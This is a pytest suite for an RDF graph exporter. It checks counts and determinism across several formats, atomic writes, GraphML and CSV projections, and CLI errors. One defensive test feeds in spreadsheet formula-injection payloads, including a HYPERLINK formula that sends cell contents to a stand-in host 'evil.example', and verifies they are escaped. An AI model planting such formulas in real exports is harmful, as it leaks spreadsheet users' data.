from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import networkx as nx
import pytest
from rdflib import Dataset, Graph

from reportgraph import export as export_module
from reportgraph.errors import ReportgraphError
from reportgraph.export import FORMATS, TABLES, export, graphml_projection
from reportgraph.store import load_graph

MINI = Path(__file__).parent / "fixtures" / "mini.trig"
IDS = "https://w3id.org/reportgraph/id/"
UNION_TRIPLES = 82  # three triples about Ruritania (one its key) are said by both documents
QUADS = 85
NODES = 9  # 6 entities, 3 events (documents are listed on each node, not drawn)
EDGES = 11  # agent, affected, place, relations (rg:actor beside a finer role is left out)


@pytest.fixture(scope="module")
def mini() -> Dataset:
    return load_graph(MINI)


def quads_in(path: Path, fmt: str) -> Dataset:
    dataset = Dataset()
    dataset.parse(path, format=fmt)
    return dataset


@pytest.mark.parametrize("fmt", ["turtle", "nt"])
def test_union_formats_have_every_triple_once(mini: Dataset, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"graph.{fmt}"

    written = export(mini, fmt, out)

    assert written == UNION_TRIPLES
    assert len(Graph().parse(out, format=fmt)) == UNION_TRIPLES


@pytest.mark.parametrize(("fmt", "parser"), [("trig", "trig"), ("nquads", "nquads")])
def test_quad_formats_keep_named_graphs(
    mini: Dataset, tmp_path: Path, fmt: str, parser: str
) -> None:
    out = tmp_path / f"graph.{fmt}"

    written = export(mini, fmt, out)

    reread = quads_in(out, parser)
    assert written == QUADS
    assert sum(1 for _ in reread.quads((None, None, None, None))) == QUADS
    sizes = {str(g.identifier): len(g) for g in reread.graphs() if len(g)}
    assert sizes == {IDS + "graph/a": 54, IDS + "graph/b": 31}


def test_jsonld_keeps_named_graphs_without_remote_context(mini: Dataset, tmp_path: Path) -> None:
    out = tmp_path / "graph.jsonld"

    written = export(mini, "jsonld", out)

    context = json.loads(out.read_text(encoding="utf-8"))["@context"]
    assert isinstance(context, dict)  # inline, so reading it back fetches nothing
    assert context["rg"] == "https://w3id.org/reportgraph/ns#"
    reread = quads_in(out, "json-ld")
    assert written == QUADS
    assert sum(1 for _ in reread.quads((None, None, None, None))) == QUADS
    assert {str(g.identifier) for g in reread.graphs() if len(g)} == {
        IDS + "graph/a",
        IDS + "graph/b",
    }


def test_graphml_projection(mini: Dataset, tmp_path: Path) -> None:
    out = tmp_path / "graph.graphml"

    written = export(mini, "graphml", out)

    graph = nx.read_graphml(out)
    assert written == EDGES
    assert graph.number_of_nodes() == NODES
    assert graph.number_of_edges() == EDGES
    assert graph.nodes[IDS + "country/ruritania"] == {
        "label": "Ruritania",
        "type": "Country",
        "documents": "a.txt; b.html",
    }
    arrest = graph.nodes[IDS + "event/a-1"]
    assert (arrest["type"], arrest["date"], arrest["documents"]) == (
        "Arrest",
        "2002-03-12",
        "a.txt",
    )
    assert arrest["evidence"].startswith("Ruritanian police arrested 25")
    assert graph.nodes[IDS + "place/strelsau"]["lat"] == "50.1"
    assert IDS + "doc/b" not in graph
    links = {data["predicate"] for *_, data in graph.edges(IDS + "country/ruritania", data=True)}
    assert links == {"ratified", "violates"}
    edges = [data for *_, data in graph.edges(data=True)]
    assert all(data["label"] == data["predicate"] for data in edges)
    assert not any(data["predicate"] in ("actor", "mentionedIn") for data in edges)
    # owl:sameAs to Wikidata is not a link between two of our things
    assert not any(str(node).startswith("http://www.wikidata.org/") for node in graph.nodes)


def test_turtle_is_byte_for_byte_deterministic(tmp_path: Path) -> None:
    first, second = tmp_path / "one.ttl", tmp_path / "two.ttl"
    export(load_graph(MINI), "turtle", first)
    export(load_graph(MINI), "turtle", second)
    assert first.read_bytes() == second.read_bytes()

    # and across processes, whose string hashing (and so set order) differs
    third = tmp_path / "three.ttl"
    code = (
        "import sys; from pathlib import Path; from reportgraph.export import export; "
        "from reportgraph.store import load_graph; "
        "export(load_graph(Path(sys.argv[1])), 'turtle', Path(sys.argv[2]))"
    )
    env = {**os.environ, "PYTHONHASHSEED": "12345"}
    subprocess.run([sys.executable, "-c", code, str(MINI), str(third)], check=True, env=env)
    assert third.read_bytes() == first.read_bytes()


@pytest.mark.parametrize("fmt", ["nt", "nquads", "jsonld"])
def test_line_and_json_formats_are_stable(tmp_path: Path, fmt: str) -> None:
    first, second = tmp_path / "one", tmp_path / "two"
    export(load_graph(MINI), fmt, first)
    export(load_graph(MINI), fmt, second)
    assert first.read_bytes() == second.read_bytes()


def test_unknown_format_lists_the_formats(mini: Dataset, tmp_path: Path) -> None:
    with pytest.raises(ReportgraphError, match="turtle, trig, nt, nquads, jsonld, graphml, csv"):
        export(mini, "rdfxml", tmp_path / "graph.rdf")
    assert list(tmp_path.iterdir()) == []


def test_missing_output_folder(mini: Dataset, tmp_path: Path) -> None:
    with pytest.raises(ReportgraphError, match="does not exist"):
        export(mini, "turtle", tmp_path / "no" / "graph.ttl")


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_replaces_and_leaves_no_temp_files(mini: Dataset, tmp_path: Path, fmt: str) -> None:
    folder = tmp_path / "tables" if fmt == "csv" else tmp_path
    folder.mkdir(exist_ok=True)
    names = list(TABLES) if fmt == "csv" else ["graph.out"]
    for name in names:
        (folder / name).write_text("old", encoding="utf-8")

    export(mini, fmt, folder if fmt == "csv" else folder / "graph.out")

    assert all((folder / name).read_text(encoding="utf-8") != "old" for name in names)
    assert sorted(p.name for p in folder.iterdir()) == sorted(names)


def test_failed_export_keeps_the_old_file(
    mini: Dataset, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "graph.graphml"
    out.write_text("old", encoding="utf-8")

    def broken(*_args: object, **_kwargs: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(export_module.nx, "write_graphml", broken)
    with pytest.raises(OSError, match="disk full"):
        export(mini, "graphml", out)

    assert out.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["graph.graphml"]


def test_graphml_holds_a_label_with_characters_xml_forbids(tmp_path: Path) -> None:
    """Red-team F11: a control character in a label made the GraphML writer fail and the
    process then crash in lxml; it is written as U+FFFD, and the file parses back."""
    from rdflib import RDF, RDFS, Literal, URIRef

    from reportgraph.ontology import RG

    ds = Dataset()
    g = ds.graph(URIRef("urn:doc"))
    node = URIRef("https://w3id.org/reportgraph/id/person/x")
    g.add((node, RDF.type, RG.Person))
    g.add((node, RDFS.label, Literal("Ann\x07 Lee\x00")))
    out = tmp_path / "g.graphml"
    export(ds, "graphml", out)
    back = nx.read_graphml(out)
    assert back.nodes[str(node)]["label"] == "Ann\ufffd Lee\ufffd"


def read_table(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_tables_are_the_graphml_projection(mini: Dataset, tmp_path: Path) -> None:
    written = export(mini, "csv", tmp_path / "tables")

    nodes = read_table(tmp_path / "tables" / "nodes.csv")
    edges = read_table(tmp_path / "tables" / "edges.csv")
    assert written == len(edges) == EDGES and len(nodes) == NODES
    assert list(nodes[0]) == [
        "Id", "Label", "Type", "Documents", "Date", "Evidence", "Latitude", "Longitude"
    ]  # fmt: skip
    assert list(edges[0]) == ["Source", "Target", "Type", "Label"]  # Gephi's names
    by_id = {row["Id"]: row for row in nodes}
    assert by_id[IDS + "place/strelsau"]["Latitude"] == "50.1"
    arrest = by_id[IDS + "event/a-1"]
    assert (arrest["Type"], arrest["Date"]) == ("Arrest", "2002-03-12")
    assert arrest["Evidence"].startswith("Ruritanian police arrested 25")
    assert {row["Type"] for row in edges} == {"Directed"}
    assert not {row["Label"] for row in edges} & {"actor", "mentionedIn"}
    assert all(row["Source"] in by_id and row["Target"] in by_id for row in edges)
    graphml = graphml_projection(mini)
    assert sorted((r["Source"], r["Target"], r["Label"]) for r in edges) == sorted(
        graphml.edges(keys=True)
    )
    again = tmp_path / "again"
    export(mini, "csv", again)
    for name in TABLES:
        assert (again / name).read_bytes() == (tmp_path / "tables" / name).read_bytes()


def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    from rdflib import RDF, RDFS, Literal, URIRef

    from reportgraph.ontology import GEO, RG

    ds = Dataset()
    g = ds.graph(URIRef("urn:doc"))
    for key, label in [("a", '=HYPERLINK("http://evil.example/?"&A1,"x")'), ("b", "+1+2"),
                       ("c", "-2+3"), ("d", "@SUM(A1)"), ("e", "\tx"), ("f", "\r=1")]:  # fmt: skip
        g.add((URIRef(IDS + f"person/{key}"), RDF.type, RG.Person))
        g.add((URIRef(IDS + f"person/{key}"), RDFS.label, Literal(label)))
    place = URIRef(IDS + "place/south")
    g.add((place, RDF.type, RG.Place))
    g.add((place, RDFS.label, Literal("South")))
    g.add((place, GEO.lat, Literal("-33.9")))

    export(ds, "csv", tmp_path / "t")

    rows = {row["Id"]: row for row in read_table(tmp_path / "t" / "nodes.csv")}
    labels = [rows[IDS + f"person/{key}"]["Label"] for key in "abcdef"]
    assert all(label.startswith("'") for label in labels), labels
    assert rows[IDS + "place/south"]["Latitude"] == "-33.9"  # a number stays a number


def test_documents_are_nodes_only_when_asked(mini: Dataset, tmp_path: Path) -> None:
    export(mini, "graphml", tmp_path / "with.graphml", documents=True)
    export(mini, "csv", tmp_path / "with", documents=True)

    graph = nx.read_graphml(tmp_path / "with.graphml")
    assert graph.nodes[IDS + "doc/b"]["type"] == "Document"
    mentions = [e for e in graph.edges(data=True) if e[2]["label"] == "mentionedIn"]
    assert mentions and all(target.startswith(IDS + "doc/") for _, target, _ in mentions)
    rows = read_table(tmp_path / "with" / "nodes.csv")
    assert {row["Type"] for row in rows} >= {"Document", "Country"}
    with pytest.raises(ReportgraphError, match="only in graphml and csv"):
        export(mini, "turtle", tmp_path / "g.ttl", documents=True)


def test_export_csv_command(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from reportgraph.cli import cli

    graph = tmp_path / "graph"
    graph.mkdir()
    (graph / "graph.trig").write_bytes(MINI.read_bytes())
    runner = CliRunner()
    out = tmp_path / "tables"

    result = runner.invoke(
        cli, ["export", "--graph", str(graph), "--format", "csv", "--out", str(out)]
    )

    assert result.exit_code == 0, result.output
    assert result.stdout == f"wrote {out / 'nodes.csv'}, {out / 'edges.csv'} ({EDGES} edges)\n"
    as_file = runner.invoke(
        cli, ["export", "--graph", str(graph), "--format", "csv", "--out", str(out / "nodes.csv")]
    )
    assert as_file.exit_code == 1 and "into a folder; this is a file" in as_file.output
    as_folder = runner.invoke(
        cli, ["export", "--graph", str(graph), "--format", "graphml", "--out", str(out)]
    )
    assert as_folder.exit_code == 1 and "is a folder" in as_folder.output
    assert "Traceback" not in as_file.output + as_folder.output
